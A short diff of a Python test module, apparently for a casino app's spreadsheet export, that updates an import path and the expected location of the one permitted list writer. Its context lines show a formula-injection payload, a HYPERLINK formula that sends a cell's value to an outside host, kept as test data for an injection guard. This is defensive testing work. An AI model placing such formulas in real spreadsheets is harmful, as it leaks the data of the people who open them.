@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from casino.embedded.servers import BASE_DIR
-from tables import spreadsheets
+from tables.reports import spreadsheets
 
 CALL = '=HYPERLINK("http://elsewhere/"&A1)'
 ATTACKS = [
@@ -120,4 +120,4 @@ def test_nobody_writes_a_list_past_the_guard() -> None:
     """Harm: a second writer, that knows nothing of this."""
     sources = [path for app in ("casino", "dealer_ui", "ledger", "tables") for path in (BASE_DIR / app).rglob("*.py")]
     writers = {path.relative_to(BASE_DIR).as_posix() for path in sources if writes_lists(path.read_text())}
-    assert writers == {"tables/spreadsheets.py"}
+    assert writers == {"tables/reports/spreadsheets.py"}
